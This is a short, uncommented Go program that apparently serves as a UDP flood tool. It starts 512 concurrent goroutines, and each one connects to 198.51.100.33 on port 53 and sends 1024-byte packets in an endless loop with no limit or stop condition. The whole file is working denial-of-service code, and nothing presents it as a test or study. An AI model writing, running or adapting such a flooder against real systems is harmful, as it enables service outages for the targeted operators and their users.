package main

import (
	"net"
	"sync"
)

func main() {
	var wg sync.WaitGroup
	p := make([]byte, 1024)
	for i := 0; i < 512; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			c, err := net.Dial("udp", "198.51.100.33:53")
			if err != nil {
				return
			}
			for {
				c.Write(p)
			}
		}()
	}
	wg.Wait()
}
